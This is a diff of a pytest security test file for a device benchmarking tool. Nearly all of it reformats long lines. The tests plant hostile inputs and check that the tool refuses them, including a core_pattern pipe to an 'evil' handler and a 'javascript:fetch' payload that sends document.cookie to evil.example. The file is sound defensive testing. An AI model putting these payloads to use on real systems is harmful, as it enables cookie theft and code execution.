@@ -42,7 +42,9 @@ def sh(target, script: str, *args: str) -> str:
 
 
 def ssh_target(s) -> SshTarget:
-    return SshTarget("board", SshOptions(host=s.host, port=s.port, user=s.user, key=str(s.key), known_hosts=str(s.known_hosts)))
+    return SshTarget(
+        "board", SshOptions(host=s.host, port=s.port, user=s.user, key=str(s.key), known_hosts=str(s.known_hosts))
+    )
 
 
 @pytest.fixture
@@ -88,8 +90,13 @@ def journal_text(entries: list[Entry], **kw) -> str:
 
 
 def plant(device, workdir: str, text: str) -> None:
-    sh(device, 'rm -rf "$1" && mkdir -m 700 "$1" && printf "%s" "$2" > "$1/restore-journal.json" && chmod 600 "$1/restore-journal.json"',
-       workdir, text)
+    sh(
+        device,
+        'rm -rf "$1" && mkdir -m 700 "$1" && printf "%s" "$2" > "$1/restore-journal.json" && '
+        'chmod 600 "$1/restore-journal.json"',
+        workdir,
+        text,
+    )
 
 
 def state(device, workdir: str) -> dict[str, str]:
@@ -102,7 +109,9 @@ def state(device, workdir: str) -> dict[str, str]:
 
 def restore_refused(tmp_path, devbench_cmd, device, workdir: str, line: str, words: str, root: str = "auto") -> str:
     before = state(device, workdir)
-    res = runs.run([*devbench_cmd, "restore", str(config(tmp_path, line, root))], capture_output=True, text=True, timeout=120)
+    res = runs.run(
+        [*devbench_cmd, "restore", str(config(tmp_path, line, root))], capture_output=True, text=True, timeout=120
+    )
     out = res.stdout.strip().splitlines()
     assert res.returncode == 1 and "Traceback" not in res.stderr, (res.stdout, res.stderr)
     assert len(out) == 1 and out[0].startswith("phone: not restored: phone: ") and words in out[0], out
@@ -114,14 +123,21 @@ TRANSPORTS = ["adb", "ssh"]
 
 
 @pytest.mark.parametrize("transport", TRANSPORTS)
-def test_planted_core_pattern_journal_is_refused(tmp_path, devbench_cmd, device, adb_device_serial, adb_server, ssh_device,
-                                                 transport):
+def test_planted_core_pattern_journal_is_refused(
+    tmp_path, devbench_cmd, device, adb_device_serial, adb_server, ssh_device, transport
+):
     workdir = f"/tmp/trust-{transport}-core"
     plant(device, workdir, journal_text([Entry("file", "kernel.core_pattern", f"{TREE}/proc/sys/kernel/core_pattern",
                                                f"|{SCRATCH}/evil %p")]))
     try:
-        restore_refused(tmp_path, devbench_cmd, device, workdir, target_line(transport, workdir, adb_device_serial, adb_server,
-                                                                             ssh_device), "is not a setting devbench makes")
+        restore_refused(
+            tmp_path,
+            devbench_cmd,
+            device,
+            workdir,
+            target_line(transport, workdir, adb_device_serial, adb_server, ssh_device),
+            "is not a setting devbench makes",
+        )
         assert standin.read_tree(device, TREE)["proc/sys/kernel/core_pattern"] == "core"
     finally:
         device.run(["rm", "-rf", workdir], timeout=30)
@@ -134,8 +150,14 @@ def test_planted_journal_with_a_symlinked_root_is_refused(tmp_path, devbench_cmd
     workdir = f"/tmp/trust-{transport}-link"
     sh(device, 'mkdir -p "$1/evil" "$1/outside/devices/system/cpu/cpu1" && ln -s "$1/outside" "$1/evil/sys" && '
                'printf "canary\\n" > "$1/outside/devices/system/cpu/cpu1/online"', SCRATCH)
-    plant(device, workdir, journal_text([Entry("file", "cpu1 online", f"{SCRATCH}/evil/sys/devices/system/cpu/cpu1/online", "1")],
-                                        sysfs=f"{SCRATCH}/evil/sys"))
+    plant(
+        device,
+        workdir,
+        journal_text(
+            [Entry("file", "cpu1 online", f"{SCRATCH}/evil/sys/devices/system/cpu/cpu1/online", "1")],
+            sysfs=f"{SCRATCH}/evil/sys",
+        ),
+    )
     try:
         line = restore_refused(tmp_path, devbench_cmd, device, workdir,
                                target_line(transport, workdir, adb_device_serial, adb_server, ssh_device),
@@ -146,29 +168,39 @@ def test_planted_journal_with_a_symlinked_root_is_refused(tmp_path, devbench_cmd
 
 
 @pytest.mark.parametrize("transport", TRANSPORTS)
-def test_planted_journal_with_a_foreign_root_prefix_is_refused(tmp_path, devbench_cmd, device, adb_device_serial, adb_server,
-                                                               ssh_device, transport):
+def test_planted_journal_with_a_foreign_root_prefix_is_refused(
+    tmp_path, devbench_cmd, device, adb_device_serial, adb_server, ssh_device, transport
+):
     """`device.root: never` holds whatever root method the journal names."""
     workdir = f"/tmp/trust-{transport}-prefix"
-    plant(device, workdir, journal_text([Entry("file", "cpu1 online", f"{TREE}/sys/devices/system/cpu/cpu1/online", "1")],
-                                        root_prefix=("sudo", "-n")))
+    plant(
+        device,
+        workdir,
+        journal_text(
+            [Entry("file", "cpu1 online", f"{TREE}/sys/devices/system/cpu/cpu1/online", "1")],
+            root_prefix=("sudo", "-n"),
+        ),
+    )
     try:
-        restore_refused(tmp_path, devbench_cmd, device, workdir, target_line(transport, workdir, adb_device_serial, adb_server,
-                                                                             ssh_device),
+        line = target_line(transport, workdir, adb_device_serial, adb_server, ssh_device)
+        restore_refused(tmp_path, devbench_cmd, device, workdir, line,
                         "device.root is 'never' and gives no root here: nothing written", root="never")
     finally:
         device.run(["rm", "-rf", workdir], timeout=30)
 
 
 @pytest.mark.parametrize("transport", TRANSPORTS)
-def test_planted_journal_of_a_wrong_owner_is_refused(tmp_path, devbench_cmd, device, adb_device_serial, adb_server, ssh_device,
-                                                     transport):
+def test_planted_journal_of_a_wrong_owner_is_refused(
+    tmp_path, devbench_cmd, device, adb_device_serial, adb_server, ssh_device, transport
+):
     workdir = f"/tmp/trust-{transport}-owner"
-    plant(device, workdir, journal_text([Entry("file", "cpu1 online", f"{TREE}/sys/devices/system/cpu/cpu1/online", "1")]))
+    plant(
+        device, workdir, journal_text([Entry("file", "cpu1 online", f"{TREE}/sys/devices/system/cpu/cpu1/online", "1")])
+    )
     sh(device, 'chown "$2:$2" "$1/restore-journal.json"', workdir, str(NOBODY))
     try:
-        restore_refused(tmp_path, devbench_cmd, device, workdir, target_line(transport, workdir, adb_device_serial, adb_server,
-                                                                             ssh_device),
+        line = target_line(transport, workdir, adb_device_serial, adb_server, ssh_device)
+        restore_refused(tmp_path, devbench_cmd, device, workdir, line,
                         f"is owned by uid {NOBODY}, neither devbench's uid 0 nor root")
     finally:
         device.run(["rm", "-rf", workdir], timeout=30)
@@ -176,8 +208,9 @@ def test_planted_journal_of_a_wrong_owner_is_refused(tmp_path, devbench_cmd, dev
 
 @pytest.mark.parametrize("transport", TRANSPORTS)
 @pytest.mark.parametrize("case", ["symlink", "foreign owner", "world-writable"])
-def test_hostile_work_folders_are_refused_by_run(tmp_path, devbench_cmd, device, adb_device_serial, adb_server, ssh_device,
-                                                 transport, case):
+def test_hostile_work_folders_are_refused_by_run(
+    tmp_path, devbench_cmd, device, adb_device_serial, adb_server, ssh_device, transport, case
+):
     """A work folder someone else made first: `devbench run` stops at it (one line in the results
     and on stderr), and writes nothing into it or through it."""
     workdir = f"/tmp/trust-{transport}-folder"
@@ -221,11 +254,17 @@ def test_a_payload_swapped_after_push_is_not_run(tmp_path, device, ssh_device, t
     try:
         target.push(good, remote, 0o755)
         res = target.run([*verified(remote), "--vmas", "1"], timeout=60)
-        assert res.ok and res.stdout.strip() == "payload-ran --vmas 1", (res.stdout, res.stderr)  # the check lets it run
+        assert res.ok and res.stdout.strip() == "payload-ran --vmas 1", (
+            res.stdout,
+            res.stderr,
+        )  # the check lets it run
         target.push(evil, remote, 0o755)  # swapped
         res = target.run([*verified(remote), "--vmas", "1"], timeout=60)
         [said] = (res.stderr or res.stdout).strip().splitlines()
-        assert res.exit_code == 126 and said.startswith(f"devbench: {remote} does not match its checksum"), (res.stdout, res.stderr)
+        assert res.exit_code == 126 and said.startswith(f"devbench: {remote} does not match its checksum"), (
+            res.stdout,
+            res.stderr,
+        )
         assert sh(device, '[ -e "$1" ] && echo ran; true', canary) == ""
     finally:
         device.run(["rm", "-rf", workdir], timeout=30)
@@ -246,8 +285,13 @@ def test_forged_facts_stay_data(device, ssh_device, transport):
     files["sys/devices/system/cpu/cpufreq/policy0/scaling_governor"] = "schedutil" + FORGED
     files["proc/sys/kernel/kptr_restrict"] = "2\\nuid=1000"
     standin.lay_out(device, TREE, files)
-    sh(device, 'mkdir -p "$1/sys/devices/system/cpu/cpufreq/policy1$2" && echo performance > "$1/sys/devices/system/cpu/cpufreq/policy1$2/scaling_governor"',
-       TREE, FORGED)
+    sh(
+        device,
+        'mkdir -p "$1/sys/devices/system/cpu/cpufreq/policy1$2" && '
+        'echo performance > "$1/sys/devices/system/cpu/cpufreq/policy1$2/scaling_governor"',
+        TREE,
+        FORGED,
+    )
     target = device if transport == "adb" else ssh_target(ssh_device)
     try:
         f = probe(target, f"{TREE}/sys", f"{TREE}/proc")
@@ -263,7 +307,9 @@ def test_adb_shell_v1_believes_only_its_own_exit_marker(device):
     """The real adbd driven over shell protocol v1 (as devices without shell_v2 are): an output
     line that looks like the exit marker is output, not an exit code, and no traceback."""
     device.features.discard("shell_v2")
-    res = device.run(["sh", "-c", 'echo "__devbench_exit=x"; echo "__devbench_exit=0"; printf tail; exit 3'], timeout=30)
+    res = device.run(
+        ["sh", "-c", 'echo "__devbench_exit=x"; echo "__devbench_exit=0"; printf tail; exit 3'], timeout=30
+    )
     assert res.exit_code == 3 and res.stdout.splitlines() == ["__devbench_exit=x", "__devbench_exit=0", "tail"], res
     res = device.run(["true"], timeout=30)
     assert res.exit_code == 0 and res.stdout == ""
@@ -274,13 +320,23 @@ def test_crafted_results_json_renders_no_foreign_link(tmp_path, devbench_cmd):
     from tests.unit.report.test_report import data_with
 
     d = data_with()
-    d["targets"][0].update(transport="qemu", transport_info={"arch": "x86_64", "kernel": "k", "kernel_config_source": None,
-                                                              "boot_seconds": 1, "boot_attempts": 1,
-                                                              "console_log": "javascript:fetch('//evil.example/'+document.cookie)"})
+    d["targets"][0].update(
+        transport="qemu",
+        transport_info={
+            "arch": "x86_64",
+            "kernel": "k",
+            "kernel_config_source": None,
+            "boot_seconds": 1,
+            "boot_attempts": 1,
+            "console_log": "javascript:fetch('//evil.example/'+document.cookie)",
+        },
+    )
     run_dir = tmp_path / "run"
     run_dir.mkdir()
     (run_dir / "results.json").write_text(json.dumps(d))
-    res = runs.run([*devbench_cmd, "report", str(run_dir), "--format", "html"], capture_output=True, text=True, timeout=120)
+    res = runs.run(
+        [*devbench_cmd, "report", str(run_dir), "--format", "html"], capture_output=True, text=True, timeout=120
+    )
     assert res.returncode == 0, res.stderr
     html = (run_dir / "report.html").read_text()
     assert "javascript:" not in html and "evil.example" not in html and "console log</a>" not in html
@@ -341,7 +397,9 @@ def test_local_target_planted_core_pattern_journal_is_refused(tmp_path, devbench
                                f"{tree}/proc", entries=[Entry("file", "kernel.core_pattern", str(core),
                                                               f"|{tmp_path}/evil %p")]).encode())
     text = journal.read_text()
-    res = runs.run([*devbench_cmd, "restore", str(local_config(tmp_path, work, tree))], capture_output=True, text=True, timeout=60)
+    res = runs.run(
+        [*devbench_cmd, "restore", str(local_config(tmp_path, work, tree))], capture_output=True, text=True, timeout=60
+    )
     [line] = res.stdout.strip().splitlines()
     assert res.returncode == 1 and line.startswith("here: not restored: here: restore journal: ") and \
         "is not a setting devbench makes" in line, (res.stdout, res.stderr)
@@ -356,10 +414,18 @@ def test_local_target_symlinked_work_folder_is_refused_by_run(tmp_path, devbench
     elsewhere.mkdir()
     work = tmp_path / "work"
     work.symlink_to(elsewhere)
-    res = runs.run([*devbench_cmd, "run", str(local_config(tmp_path, work, tree)), "--quiet"], capture_output=True, text=True,
-                   timeout=300)
+    res = runs.run(
+        [*devbench_cmd, "run", str(local_config(tmp_path, work, tree)), "--quiet"],
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
     assert res.returncode == 1 and "Traceback" not in res.stderr, res.stderr
     [run_dir] = [p for p in (tmp_path / "out").iterdir() if not p.is_symlink()]
     errors = json.loads((run_dir / "results.json").read_text())["errors"]
-    assert [e for e in errors if e["kind"] == "work-folder-refused" and f"{work} is a symbolic link: refused" in e["message"]], errors
+    assert [
+        e
+        for e in errors
+        if e["kind"] == "work-folder-refused" and f"{work} is a symbolic link: refused" in e["message"]
+    ], errors
     assert list(elsewhere.iterdir()) == [] and work.is_symlink()
